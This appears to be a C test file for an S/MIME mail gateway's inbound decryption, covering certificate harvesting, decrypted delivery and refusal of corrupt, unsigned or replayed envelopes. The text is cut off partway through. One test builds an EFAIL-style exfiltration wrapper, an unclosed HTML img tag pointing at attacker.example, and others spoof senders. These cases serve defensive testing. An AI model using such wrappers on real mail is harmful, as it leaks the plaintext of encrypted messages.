/*
 * check_gateway.c — the inbound pipeline with decryption, driven directly:
 * headers + body into gw_inbound(), header edits, body and summary out. No
 * MTA; the end-to-end tests (tests/e2e/decrypt-*.test) run the same cases
 * through Postfix with messages made by gpgsm, NSS and openssl.
 *
 * The messages are built with our own CMS and MIME layers (interop with the
 * other engines is check_interop's and the e2e tests' job), so every layer
 * can be arranged at will: signatures detached or opaque, nested, around
 * the envelope, broken; envelopes to any key, truncated, garbage, or
 * wrapped in someone else's multipart.
 *
 * Fixture: the test PKI (tests/pki/mkpki.sh) in a private temp directory,
 * keys_dir holding alice's three keys (current = alice-renewed, the one it
 * renewed = alice, and an expired one) and olga@org.example's EC key (made
 * here: the PKI has no internal EC user). Every test gets a fresh key cache.
 */
#include <check.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <openssl/pem.h>

#include "buf.h"
#include "config.h"
#include "clock.h"
#include "gateway.h"
#include "keycache.h"
#include "keystore.h"
#include "mime.h"
#include "smime.h"
#include "testutil.h"
#include "trust.h"
#include "x509util.h"

static char *T;
static struct config *cfg;
static struct trust *tr;
static struct keystore *ks;
static struct keycache *kc;
static struct gw_env env;

enum ident { BOB, BOB_RENEWED, ALICE, ALICE_RENEWED, ALICE_EXPIRED, OLGA, DAVE, NIDENT };
static const char *const ident_name[NIDENT] = {
	"bob", "bob-renewed", "alice", "alice-renewed", "alice-expired", "olga", "dave",
};
static struct smime_key id[NIDENT];

/* What alice's partner wrote: the cleartext every test wraps. */
static const char cleartext[] =
    "Content-Type: text/plain; charset=us-ascii\r\n"
    "Content-Transfer-Encoding: 7bit\r\n"
    "\r\n"
    "Hello Alice,\r\n"
    "the numbers are 4, 8, 15, 16, 23 and 42.\r\n";

static const char outer_headers[] =
    "From: Bob <bob@partner.example>\r\n"
    "To: Alice <alice@org.example>\r\n"
    "Subject: the numbers\r\n"
    "Date: Mon, 2 Jun 2025 10:00:00 +0000\r\n"
    "Message-ID: <numbers@partner.example>\r\n"
    "MIME-Version: 1.0\r\n";

/* ------------------------------------------------------------ helpers */

static int __attribute__((format(printf, 1, 2)))
sh(const char *fmt, ...)
{
	char cmd[4096], full[4600];
	va_list ap;
	int r;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	snprintf(full, sizeof(full), "cd %s && { %s ; } >sh.out 2>&1", T, cmd);
	r = system(full);
	return WIFEXITED(r) ? WEXITSTATUS(r) : 128;
}

static struct buf
text(const char *s)
{
	struct buf b = BUF_INIT;

	ck_assert_int_eq(buf_append_str(&b, s), SM_OK);
	return b;
}

/* Sign entity `in` as k: detached (multipart/signed) or opaque
 * (application/pkcs7-mime signed-data); returns the new entity. */
static struct buf
wrap_signed(enum ident k, bool detached, const struct buf *in)
{
	struct buf der = BUF_INIT, body = BUF_INIT, out = BUF_INIT;
	struct mime_headers h = MIME_HEADERS_INIT;
	char err[256];

	ck_assert_msg(smime_sign(&id[k], NULL, detached, in->data, in->len, &der, err,
	    sizeof(err)) == SM_OK, "sign: %s", err);
	if (detached)
		ck_assert_int_eq(mime_build_signed(in->data, in->len, der.data, der.len, "sha-256",
		    &h, &body), SM_OK);
	else
		ck_assert_int_eq(mime_build_pkcs7(der.data, der.len, "signed-data", &h, &body),
		    SM_OK);
	ck_assert_int_eq(mime_entity_serialize(&h, body.data, body.len, &out), SM_OK);
	buf_free(&der);
	buf_free(&body);
	mime_headers_free(&h);
	return out;
}

/* Put the DER of an envelope into an application/pkcs7-mime entity. */
static struct buf
pkcs7_entity(const struct buf *der, const char *smime_type)
{
	struct buf body = BUF_INIT, out = BUF_INIT;
	struct mime_headers h = MIME_HEADERS_INIT;

	ck_assert_int_eq(mime_build_pkcs7(der->data, der->len, smime_type, &h, &body), SM_OK);
	ck_assert_int_eq(mime_entity_serialize(&h, body.data, body.len, &out), SM_OK);
	buf_free(&body);
	mime_headers_free(&h);
	return out;
}

static struct buf
envelope_der(const enum ident *to, size_t n, enum smime_cipher c, bool oaep, const struct buf *in)
{
	STACK_OF(X509) *r = sk_X509_new_null();
	struct buf der = BUF_INIT;
	char err[256];

	for (size_t i = 0; i < n; i++)
		sk_X509_push(r, id[to[i]].cert);
	ck_assert_msg(smime_encrypt(r, c, oaep, in->data, in->len, &der, err, sizeof(err)) ==
	    SM_OK, "encrypt: %s", err);
	sk_X509_free(r);
	return der;
}

static struct buf
wrap_encrypted(const enum ident *to, size_t n, enum smime_cipher c, bool oaep,
    const struct buf *in)
{
	struct buf der = envelope_der(to, n, c, oaep, in);
	struct buf out = pkcs7_entity(&der, smime_cipher_smime_type(c));

	buf_free(&der);
	return out;
}

/* A whole message: the RFC 5322 headers, then entity. */
static struct buf
message(const struct buf *entity)
{
	struct buf m = text(outer_headers);

	ck_assert_int_eq(buf_append(&m, entity->data, entity->len), SM_OK);
	return m;
}

/* The message as the milter hands it over. */
struct tmsg {
	struct mime_headers hdrs;
	char *rcpt[4];
	size_t nrcpt;
	struct gw_msg m;
};

static void
tmsg_load(struct tmsg *t, const struct buf *msg, const char *rcpts)
{
	const char *p = (const char *)msg->data, *end = p + msg->len, *eoh;
	char *copy, *save = NULL, *tok;

	memset(t, 0, sizeof(*t));
	eoh = strstr(p, "\r\n\r\n");
	ck_assert_ptr_nonnull(eoh);
	while (p < eoh + 2) {
		const char *nl = strstr(p, "\r\n"), *colon = memchr(p, ':', (size_t)(nl - p));
		char name[128], *value;
		size_t vl;

		/* continuation lines belong to the field */
		while (nl + 2 < eoh + 2 && (nl[2] == ' ' || nl[2] == '\t'))
			nl = strstr(nl + 2, "\r\n");
		ck_assert_ptr_nonnull(colon);
		snprintf(name, sizeof(name), "%.*s", (int)(colon - p), p);
		colon++;
		if (*colon == ' ')
			colon++;
		vl = (size_t)(nl - colon);
		value = strndup(colon, vl);
		ck_assert_int_eq(mime_headers_add(&t->hdrs, name, value), SM_OK);
		free(value);
		p = nl + 2;
	}
	copy = strdup(rcpts);
	for (tok = strtok_r(copy, ",", &save); tok && t->nrcpt < 4; tok = strtok_r(NULL, ",", &save))
		t->rcpt[t->nrcpt++] = strdup(tok);
	free(copy);
	t->m.qid = "TESTQID";
	t->m.sender = "bob@partner.example";
	t->m.rcpts = t->rcpt;
	t->m.nrcpts = t->nrcpt;
	t->m.hdrs = &t->hdrs;
	t->m.body = (const unsigned char *)eoh + 4;
	t->m.body_len = (size_t)(end - (eoh + 4));
}

static void
tmsg_free(struct tmsg *t)
{
	mime_headers_free(&t->hdrs);
	for (size_t i = 0; i < t->nrcpt; i++)
		free(t->rcpt[i]);
}

/* Run the inbound pipeline on msg for rcpts (comma-separated). */
static void
inbound(const struct buf *msg, const char *rcpts, enum cfg_decrypt mode, struct gw_result *res)
{
	struct tmsg t;

	cfg->inbound_decrypt = mode;
	tmsg_load(&t, msg, rcpts);
	ck_assert_int_eq(gw_inbound(&env, &t.m, res), SM_OK);
	if (getenv("CHECK_GATEWAY_SHOW") != NULL)
		fprintf(stderr, "summary: %s\n", buf_cstr(&res->summary));
	ck_assert_int_eq(res->verdict, POL_ACCEPT);
	tmsg_free(&t);
}

static const struct gw_hdr_edit *
edit_of(const struct gw_result *r, enum gw_hdr_op op, const char *name)
{
	for (size_t i = 0; i < r->nedits; i++)
		if (r->edits[i].op == op && strcasecmp(r->edits[i].name, name) == 0)
			return &r->edits[i];
	return NULL;
}

static size_t
count_of(const char *hay, const char *needle)
{
	size_t n = 0;

	for (const char *p = hay; (p = strstr(p, needle)) != NULL; p++)
		n++;
	return n;
}

#define SUMMARY_HAS(res, want)                                                        \
	ck_assert_msg(strstr(buf_cstr(&(res)->summary), (want)) != NULL,              \
	    "summary: got \"%s\", want it to contain \"%s\"", buf_cstr(&(res)->summary), \
	    (want))

/* Is cert the one the key cache would encrypt to for addr now? */
static bool
cached_is(const char *addr, enum ident who)
{
	X509 *c = NULL;
	char reason[KC_REASON_SIZE];
	bool same;

	if (keycache_select(kc, addr, trust_store(tr), false, &c, NULL, reason, sizeof(reason)) !=
	    SM_OK)
		return false;
	same = c != NULL && X509_cmp(c, id[who].cert) == 0;
	X509_free(c);
	return same;
}

static size_t
cached_count(const char *addr)
{
	struct kc_record *v = NULL;
	size_t n = 0;

	ck_assert_int_eq(keycache_find_address(kc, addr, &v, &n), SM_OK);
	kc_records_free(v, n);
	return n;
}

/* Nothing harvested, nothing decrypted, the original delivered. */
static void
assert_untouched(const struct gw_result *res)
{
	ck_assert_msg(!res->replace_body, "body replaced: %s", buf_cstr(&res->summary));
	ck_assert_ptr_null(edit_of(res, GW_HDR_ADD, "X-SMIME-Decrypted"));
	ck_assert_ptr_null(edit_of(res, GW_HDR_ADD, "Content-Type"));
	ck_assert_ptr_null(edit_of(res, GW_HDR_DELETE, "Content-Type"));
	ck_assert_msg(cached_count("bob@partner.example") == 0, "something was harvested: %s",
	    buf_cstr(&res->summary));
}

/* The delivered message is the cleartext, canonical: its content headers
 * replace the envelope's, its body the envelope. */
static void
assert_delivered_cleartext(const struct gw_result *res, const char *clear)
{
	struct mime_entity *e = NULL;
	struct mime_headers outer = MIME_HEADERS_INIT, content = MIME_HEADERS_INIT;
	struct buf canon = BUF_INIT;
	const char *body;

	ck_assert_msg(res->replace_body, "not delivered decrypted: %s", buf_cstr(&res->summary));
	ck_assert_int_eq(mime_parse((const unsigned char *)clear, strlen(clear), NULL, &e), SM_OK);
	ck_assert_int_eq(mime_split_headers(&e->hdrs, &outer, &content), SM_OK);
	ck_assert_int_eq(mime_canonicalize(&content, e->body, e->body_len, NULL, &canon), SM_OK);
	body = strstr(buf_cstr(&canon), "\r\n\r\n") + 4;
	ck_assert_msg(res->body.len == strlen(body) && memcmp(res->body.data, body, res->body.len) == 0,
	    "delivered body: got \"%s\", want \"%s\"", buf_cstr(&res->body), body);
	for (size_t i = 0; i < content.n; i++) {
		const struct gw_hdr_edit *ed = edit_of(res, GW_HDR_ADD, content.v[i].name);
		char *want = mime_header_unfold(content.v[i].value);
		ck_assert_msg(ed != NULL && strcmp(ed->value, want) == 0,
		    "%s: got \"%s\", want \"%s\"", content.v[i].name, ed ? ed->value : "(none)", want);
		free(want);
	}
	/* The envelope's own Content-* headers go. */
	ck_assert_ptr_nonnull(edit_of(res, GW_HDR_DELETE, "Content-Type"));
	/* RFC 5322 headers stay: nothing but Content-*, forgeries and the
	 * marker is ever deleted. */
	for (size_t i = 0; i < res->nedits; i++)
		if (res->edits[i].op == GW_HDR_DELETE)
			ck_assert_msg(strncasecmp(res->edits[i].name, "Content-", 8) == 0,
			    "deleted %s", res->edits[i].name);
	ck_assert_ptr_nonnull(edit_of(res, GW_HDR_ADD, "X-SMIME-Decrypted"));
	mime_headers_free(&outer);
	mime_headers_free(&content);
	buf_free(&canon);
	mime_entity_free(e);
}

static void
assert_results_pass_for(const struct gw_result *res, const char *who)
{
	const struct gw_hdr_edit *ar = edit_of(res, GW_HDR_INSERT_TOP, "Authentication-Results");
	char want[200];

	ck_assert_msg(ar != NULL, "no Authentication-Results");
	snprintf(want, sizeof(want), "mx.test.example; smime=pass body.smime-identifier=%s ", who);
	ck_assert_msg(strncmp(ar->value, want, strlen(want)) == 0,
	    "Authentication-Results: got \"%s\", want it to start \"%s\"", ar->value, want);
}

/* ------------------------------------------------------------ fixture */

static void
load_key(enum ident i)
{
	char path[4200], err[300];

	snprintf(path, sizeof(path), "%s/pki/%s.pem", T, ident_name[i]);
	ck_assert_msg(smime_key_load_pem(path, &id[i], err, sizeof(err)) == SM_OK, "%s", err);
}

static void
suite_setup(void)
{
	char path[4200], err[300];
	struct config_errors errs = { 0 };
	FILE *f;

	T = testutil_tmpdir();
	ck_assert_ptr_nonnull(T);
	ck_assert_msg(realpath(testutil_path("tests/pki/mkpki.sh"), path) != NULL,
	    "tests/pki/mkpki.sh not found: set SMIME_TOP to the source tree");
	ck_assert_msg(sh("sh %s pki", path) == 0, "mkpki.sh failed (see %s/sh.out)", T);
	/* olga@org.example: an internal user with an EC key (ECDH). */
	ck_assert_msg(sh("cd pki && printf '%%s\\n' "
	    "'subjectAltName=email:olga@org.example' "
	    "'keyUsage=critical,digitalSignature,keyAgreement' "
	    "'extendedKeyUsage=emailProtection' >olga.ext && "
	    "openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes "
	    "-keyout olga.key -subj '/CN=Olga/emailAddress=olga@org.example' -out olga.csr && "
	    "openssl x509 -req -in olga.csr -CA inter.crt -CAkey inter.key -set_serial 4242 "
	    "-days 300 -sha256 -extfile olga.ext -out olga.crt && "
	    "cat olga.key olga.crt inter.crt >olga.pem && chmod 600 olga.pem") == 0,
	    "making olga's EC certificate failed (see %s/sh.out)", T);
	ck_assert_int_eq(sh("mkdir -m 700 keys && cp pki/alice.pem pki/alice-renewed.pem "
	    "pki/alice-expired.pem pki/olga.pem keys/ && chmod 600 keys/*"), 0);
	snprintf(path, sizeof(path), "%s/smime-milter.conf", T);
	f = fopen(path, "w");
	ck_assert_ptr_nonnull(f);
	fprintf(f, "socket = \"inet:8894@127.0.0.1\";\n"
	    "authserv_id = \"mx.test.example\";\n"
	    "internal_domains = [ \"org.example\" ];\n"
	    "spool_dir = \"%s\";\n"
	    "pid_file = \"%s/pid\";\n"
	    "cache = { path = \"%s/unused.db\"; };\n"
	    "keys_dir = \"%s/keys\";\n"
	    "trust = { ca_file = \"%s/pki/ca.pem\"; };\n", T, T, T, T, T);
	fclose(f);
	ck_assert_msg(config_load(path, &cfg, &errs) == SM_OK, "config: %s",
	    errs.n ? errs.msg[0] : "?");
	config_errors_free(&errs);
	snprintf(path, sizeof(path), "%s/pki/ca.pem", T);
	ck_assert_msg(trust_load(path, NULL, &tr, err, sizeof(err)) == SM_OK, "%s", err);
	snprintf(path, sizeof(path), "%s/keys", T);
	ck_assert_msg(keystore_load(path, &ks, err, sizeof(err)) == SM_OK, "%s", err);
	for (int i = 0; i < NIDENT; i++)
		load_key((enum ident)i);
	env.cfg = cfg;
	env.trust = tr;
	env.ks = ks;
}

static void
suite_teardown(void)
{
	for (int i = 0; i < NIDENT; i++)
		smime_key_free(&id[i]);
	keystore_free(ks);
	trust_free(tr);
	config_unref(cfg);
	testutil_rmtree(T);
	free(T);
}

static void
cache_setup(void)
{
	static int n;
	char path[4200], err[300];

	snprintf(path, sizeof(path), "%s/cache-%ld-%d.db", T, (long)getpid(), n++);
	ck_assert_msg(keycache_open("sqlite", path, &kc, err, sizeof(err)) == SM_OK, "%s", err);
	env.kc = kc;
	cfg->inbound_harvest = true;
	cfg->inbound_results_header = true;
}

static void
cache_teardown(void)
{
	keycache_close(kc);
	kc = NULL;
	env.kc = NULL;
}

/* ------------------------------------------------------------ cases */

/* The shapes in which partners send signed-then-encrypted mail. */
static const struct row {
	const char *name;
	bool detached;
	enum smime_cipher cipher;
	bool oaep;
	const char *marker; /* what X-SMIME-Decrypted names */
} rows[] = {
	{ "detached, AES-128-CBC", true, SMIME_CIPHER_AES128_CBC, false, "enveloped-data" },
	{ "detached, AES-256-CBC", true, SMIME_CIPHER_AES256_CBC, false, "enveloped-data" },
	{ "opaque, AES-128-CBC", false, SMIME_CIPHER_AES128_CBC, false, "enveloped-data" },
	{ "opaque, AES-256-CBC", false, SMIME_CIPHER_AES256_CBC, false, "enveloped-data" },
	{ "detached, AES-256-GCM", true, SMIME_CIPHER_AES256_GCM, false, "authEnveloped-data" },
	{ "detached, AES-256-CBC, RSA-OAEP", true, SMIME_CIPHER_AES256_CBC, true, "enveloped-data" },
	{ "opaque, AES-128-GCM, RSA-OAEP", false, SMIME_CIPHER_AES128_GCM, true, "authEnveloped-data" },
};
#define NROWS (sizeof(rows) / sizeof(rows[0]))

static struct buf
signed_encrypted(enum ident signer, bool detached, enum ident to, enum smime_cipher c, bool oaep)
{
	struct buf clear = text(cleartext), s = wrap_signed(signer, detached, &clear);
	struct buf e = wrap_encrypted(&to, 1, c, oaep, &s), m = message(&e);

	buf_free(&clear);
	buf_free(&s);
	buf_free(&e);
	return m;
}

START_TEST(harvest_mode_harvests_the_signer_and_leaves_the_message_alone)
{
	const struct row *rw = &rows[_i];
	struct buf m = signed_encrypted(BOB, rw->detached, ALICE_RENEWED, rw->cipher, rw->oaep);
	struct gw_result res;

	inbound(&m, "alice@org.example", CFG_DECRYPT_HARVEST, &res);
	SUMMARY_HAS(&res, "inbound decrypted smime=pass harvested bob@partner.example sha256=");
	SUMMARY_HAS(&res, ", delivered as received");
	ck_assert_msg(!res.replace_body, "%s: body replaced in harvest mode", rw->name);
	ck_assert_ptr_null(edit_of(&res, GW_HDR_ADD, "X-SMIME-Decrypted"));
	ck_assert_ptr_null(edit_of(&res, GW_HDR_DELETE, "Content-Type"));
	ck_assert_msg(cached_is("bob@partner.example", BOB), "%s: bob not harvested", rw->name);
	/* the A-R speaks of the signature inside */
	assert_results_pass_for(&res, "bob@partner.example");
	gw_result_free(&res);
	buf_free(&m);
}
END_TEST

START_TEST(deliver_mode_delivers_the_canonical_cleartext_and_reports_its_signature)
{
	const struct row *rw = &rows[_i];
	struct buf m = signed_encrypted(BOB, rw->detached, ALICE_RENEWED, rw->cipher, rw->oaep);
	struct gw_result res;
	const struct gw_hdr_edit *mark;

	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "inbound decrypted smime=pass harvested bob@partner.example sha256=");
	SUMMARY_HAS(&res, ", delivered decrypted");
	assert_delivered_cleartext(&res, cleartext);
	assert_results_pass_for(&res, "bob@partner.example");
	mark = edit_of(&res, GW_HDR_ADD, "X-SMIME-Decrypted");
	ck_assert_ptr_nonnull(mark);
	ck_assert_msg(strncmp(mark->value, "mx.test.example; ", 17) == 0 &&
	    strstr(mark->value, rw->marker) != NULL, "marker: got \"%s\"", mark->value);
	ck_assert(cached_is("bob@partner.example", BOB));
	gw_result_free(&res);
	buf_free(&m);
}
END_TEST

/* Current, renewed and expired: every key alice ever held still opens. */
START_TEST(every_key_alice_ever_held_opens_her_mail)
{
	static const enum ident keys[] = { ALICE_RENEWED, ALICE, ALICE_EXPIRED };
	struct buf m = signed_encrypted(BOB, true, keys[_i], SMIME_CIPHER_AES256_CBC, false);
	struct gw_result res;

	inbound(&m, "alice@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "inbound decrypted smime=pass harvested bob@partner.example");
	assert_delivered_cleartext(&res, cleartext);
	gw_result_free(&res);
	buf_free(&m);
}
END_TEST

START_TEST(an_internal_ec_key_opens_ecdh_mail)
{
	struct buf m = signed_encrypted(BOB, true, OLGA, SMIME_CIPHER_AES256_CBC, false);
	struct gw_result res;

	inbound(&m, "olga@org.example", CFG_DECRYPT_DELIVER, &res);
	SUMMARY_HAS(&res, "inbound decrypted smime=pass harvested bob@partner.example");
	assert_delivered_cleartext(&res, cleartext);
	gw_result_free(&res);
	buf_free(&m);
}
END_TEST

START_TEST(a_renewed_partner_certificate_inside_encrypted_mail_supersedes_the_old_one)
{
	struct buf clear = text(cleartext), s = wrap_signed(BOB, true, &clear), m1 = message(&s);
	struct buf m2 = signed_encrypted(BOB_RENEWED, true, ALICE_RENEWED, SMIME_CIPHER_AES256_CBC,
	    false);
	struct gw_result res;
	char fp[X509U_FP_SIZE], want[200];

	/* bob's old certificate came in a plain signed message */
	inbound(&m1, "alice@org.example", CFG_DECRYPT_HARVEST, &res);
	SUMMARY_HAS(&res, "inbound smime=pass harvested bob@partner.example");
	gw_result_free(&res);
	ck_assert(cached_is("bob@partner.example", BOB));
	/* his renewed one only inside encrypted mail */
	inbound(&m2, "alice@org.example", CFG_DECRYPT_HARVEST, &res);
	x509u_fingerprint(id[BOB_RENEWED].cert, fp);
	snprintf(want, sizeof(want), "harvested bob@partner.example sha256=%s", fp);
	SUMMARY_HAS(&res, want);
	ck_assert_msg(!res.replace_body, "harvest mode replaced the body");
	ck_assert_msg(cached_is("bob@partner.example", BOB_RENEWED),
	    "the renewed certificate does not supersede the old one");
	ck_assert_uint_eq(cached_count("bob@partner.example"), 2); /* history kept */
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&s);
	buf_free(&m1);
	buf_free(&m2);
}
END_TEST

START_TEST(several_internal_recipients_open_one_envelope_and_harvest_once)
{
	static const enum ident to[] = { ALICE_RENEWED, OLGA };
	struct buf clear = text(cleartext), s = wrap_signed(BOB, true, &clear);
	struct buf e = wrap_encrypted(to, 2, SMIME_CIPHER_AES256_CBC, false, &s), m = message(&e);
	struct gw_result res;

	inbound(&m, "alice@org.example,olga@org.example", CFG_DECRYPT_DELIVER, &res);
	ck_assert_uint_eq(count_of(buf_cstr(&res.summary), " harvested "), 1);
	ck_assert_uint_eq(cached_count("bob@partner.example"), 1);
	assert_delivered_cleartext(&res, cleartext);
	gw_result_free(&res);
	buf_free(&clear);
	buf_free(&s);
	buf_free(&e);
	buf_free(&m);
}
END_TEST

/* deliver hands out plaintext only to recipients the sender encrypted to:
 * otherwise a captured envelope sent to one's own internal address would
 * be decrypted with a colleague's key. */
START_TEST(deliver_never_hands_plaintext_to_a_recipient_it_was_not_encrypted_to)
{
	static const struct {
		const char *rcpts, *why;
	} cases[] = {
		{ "olga@org.example", "not encrypted to recipient olga@org.example" },
		{ "alice@org.example,olga@org.example", "not encrypted to recipient olga@org.example" },
		{ "alice@org.example,mallory@org.example",
		    "no key of ours belongs to recipient mallory@org.example" },
		{ "mallory@org.example", "no key of ours belongs to recipient mallory@org.example" },
	};
	struct buf m = signed_encrypted(BOB, true, ALICE_RENEWED, SMIME_CIPHER_AES256_CBC, false);
	struct gw_result res;
	char want[300];

	inbound(&m, cases[_i].rcpts, CFG_DECRYPT_DELIVER, &res);
	snprintf(want, sizeof(want), ", delivered as received: %s", cases[_i].why);
	SUMMARY_HAS(&res, want);
	ck_assert(!res.replace_body);
	ck_assert_ptr_null(edit_of(&res, GW_HDR_ADD, "X-SMIME-Decrypted"));
	ck_assert_ptr_null(edit_of(&res, GW_HDR_DELETE, "Content-Type"));
	/* harvesting is no disclosure: it still happens */
	SUMMARY_HAS(&res, "harvested bob@partner.example");
	gw_result_free(&res);
	buf_free(&m);
}
END_TEST

/* deliver vouches for the author only: plaintext replaces the message when
 * the signer's certificate carries the From address (read per RFC 5322) and
 * the envelope sender is that same address, so a bounce carries it back to
 * its author and never to someone who replayed the envelope. */
static const struct {
	const char *sender, *from, *why; /* why NULL: delivered decrypted */
} author_rows[] = {
	{ "bob@partner.example", "Bob <bob@partner.example>", NULL },
	{ "<Bob@Partner.Example>", "bob@partner.example (Bob)", NULL },
	{ "<attacker@evil.example>", "Bob <bob@partner.example>",
	  "the envelope sender <attacker@evil.example> is not the From address "
	  "bob@partner.example (a bounce must return to the author)" },
	{ "<>", "Bob <bob@partner.example>",
	  "the envelope sender <> is not the From address bob@partner.example" },
	{ "ceo@partner.example", "Bob CEO <ceo@partner.example>",
	  "the signer's certificate does not carry the From address ceo@partner.example" },
	{ "ceo@org.example", "\"<bob@partner.example>\" <ceo@org.example>",
	  "the signer's certificate does not carry the From address ceo@org.example" },
	{ "bob@partner.example", "bob@partner.example, eve@evil.example",
	  "no single From address" },
};

START_TEST(deliver_only_within_the_authors_conversation)
{
	struct buf m = signed_encrypted(BOB, true, ALICE, SMIME_CIPHER_AES256_CBC, false);
	struct buf m2 = BUF_INIT;
	const char *from = strstr((const char *)m.data, "From: "), *eol = strstr(from, "\r\n");
	struct gw_result res;
	struct tmsg t;
	char want[400];

	buf_append(&m2, m.data, (size_t)(from - (const char *)m.data));
	buf_printf(&m2, "From: %s", author_rows[_i].from);
	buf_append(&m2, eol, m.len - (size_t)(eol - (const char *)m.data));
	cfg->inbound_decrypt = CFG_DECRYPT_DELIVER;
	tmsg_load(&t, &m2, "alice@org.example");
	t.m.sender = author_rows[_i].sender;
	ck_assert_int_eq(gw_inbound(&env, &t.m, &res), SM_OK);
	if (author_rows[_i].why == NULL) {
		ck_assert_msg(res.replace_body, "From %s, sender <%s>: not delivered decrypted: %s",
		    author_rows[_i].from, author_rows[_i].sender, buf_cstr(&res.summary));
	} else {
		snprintf(want, sizeof(want), ", delivered as received: %s", author_rows[_i].why);
		SUMMARY_HAS(&res, want);
		ck_assert(!res.replace_body);
		ck_assert_ptr_null(edit_of(&res, GW_HDR_ADD, "X-SMIME-Decrypted"));
		ck_assert_ptr_null(edit_of(&res, GW_HDR_DELETE, "Content-Type"));
	}
	gw_result_free(&res);
	tmsg_free(&t);
	buf_free(&m);
	buf_free(&m2);
}
END_TEST

/* Encrypted mail that must not be harvested from or delivered decrypted. */
enum refusal { R_OTHER_RCPT, R_UNSIGNED, R_GARBAGE, R_TRUNC_B64, R_TRUNC_DER, R_EFAIL_PART,
	R_ALTERED, R_NOT_MIME, R_OFF, R_RC2, NREFUSALS };

static struct buf
refusal_message(enum refusal k, enum cfg_decrypt *mode)
{
	static const enum ident alice = ALICE_RENEWED, bob = BOB;
	struct buf clear = text(cleartext), s = BUF_INIT, e = BUF_INIT, m = BUF_INIT, der = BUF_INIT;
	char *p;

	*mode = CFG_DECRYPT_DELIVER;
	switch (k) {
	case R_OTHER_RCPT:
		s = wrap_signed(BOB, true, &clear);
		e = wrap_encrypted(&bob, 1, SMIME_CIPHER_AES256_CBC, false, &s);
		break;
	case R_UNSIGNED:
		e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &clear);
		break;
	case R_GARBAGE:
		e = text("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
		    "Content-Transfer-Encoding: base64\r\n\r\n"
		    "VGhpcyBpcyBubyBlbnZlbG9wZSBhdCBhbGwsIGp1c3QgdGV4dCBpbiBiYXNlNjQu\r\n");
		break;
	case R_TRUNC_B64:
		s = wrap_signed(BOB, true, &clear);
		e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s);
		/* the transfer was cut mid-line: a third of the base64 is
		 * gone, and what is left is no multiple of four characters */
		{
			size_t body = (size_t)(strstr((char *)e.data, "\r\n\r\n") + 4 - (char *)e.data);
			size_t nb64 = 0;

			e.len = body + (e.len - body) * 2 / 3;
			for (size_t i = body; i < e.len; i++)
				nb64 += e.data[i] != '\r' && e.data[i] != '\n';
			while (nb64 % 4 != 2 || e.data[e.len - 1] == '\n' || e.data[e.len - 1] == '\r')
				nb64 -= e.data[--e.len] != '\r' && e.data[e.len] != '\n';
			e.data[e.len] = '\0';
			buf_append_str(&e, "\r\n");
		}
		break;
	case R_TRUNC_DER:
		s = wrap_signed(BOB, true, &clear);
		der = envelope_der(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s);
		der.len = der.len * 2 / 3 / 3 * 3; /* valid base64, cut DER */
		e = pkcs7_entity(&der, "enveloped-data");
		break;
	case R_EFAIL_PART:
		s = wrap_signed(BOB, true, &clear);
		e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s);
		m = text("Content-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n"
		    "--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
		    "--efail\r\n");
		buf_append(&m, e.data, e.len);
		buf_append_str(&m, "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n");
		buf_free(&e);
		e = m;
		m = (struct buf)BUF_INIT;
		break;
	case R_ALTERED:
		/* signed, then the text changed before encrypting: the
		 * signature inside fails, as after a CBC gadget splice */
		s = wrap_signed(BOB, true, &clear);
		p = strstr((char *)s.data, "4, 8, 15");
		ck_assert_ptr_nonnull(p);
		p[0] = '5';
		e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s);
		break;
	case R_NOT_MIME:
		s = text("\x01\x02 no MIME here\r\n\x7f\r\n");
		e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s);
		break;
	case R_OFF:
		s = wrap_signed(BOB, true, &clear);
		e = wrap_encrypted(&alice, 1, SMIME_CIPHER_AES256_CBC, false, &s);
		*mode = CFG_DECRYPT_OFF;
		break;
	case R_RC2:
		/* RC2 needs OpenSSL's legacy provider, which the daemon
		 * does not load: an unsupported algorithm */
		s = wrap_signed(BOB, true, &clear);
		{
			char path[4200];
			unsigned char *p2;
			size_t n2;
			FILE *f;

			snprintf(path, sizeof(path), "%s/rc2.in", T);
			ck_assert_ptr_nonnull(f = fopen(path, "wb"));
			ck_assert_uint_eq(fwrite(s.data, 1, s.len, f), s.len);
			fclose(f);
			ck_assert_msg(sh("openssl cms -encrypt -rc2-40 -provider legacy -provider "
			    "default -binary -in rc2.in -recip pki/alice-renewed.crt -outform DER "
			    "-out rc2.der") == 0, "openssl cannot make an RC2 envelope (see %s/sh.out)",
			    T);
			snprintf(path, sizeof(path), "%s/rc2.der", T);
			ck_assert_ptr_nonnull(p2 = testutil_slurp(path, &n2));
			buf_append(&der, p2, n2);
			free(p2);
		}
		e = pkcs7_entity(&der, "enveloped-data");
		break;
	default:
		ck_abort();
	}
	m = message(&e);
	buf_free(&clear);
	buf_free(&s);
	buf_free(&e);
	buf_free(&der);
	return m;
}

START_TEST(refused_envelopes_are_delivered_as_received_with_the_reason)
{
	static const char *const why[NREFUSALS] = {
		[R_OTHER_RCPT] = "inbound encrypted, not decrypted: no matching key: none of our 4 key(s) is a recipient",
		[R_UNSIGNED] = "inbound decrypted, unsigned inside: nothing to harvest [enveloped-data > text/plain], delivered as received: decrypted content is not signed",
		[R_GARBAGE] = "inbound encrypted, not decrypted: corrupt envelope: not a CMS structure",
		[R_TRUNC_B64] = "inbound encrypted, not decrypted: corrupt envelope: the base64 body does not decode",
		[R_TRUNC_DER] = "inbound encrypted, not decrypted: corrupt envelope",
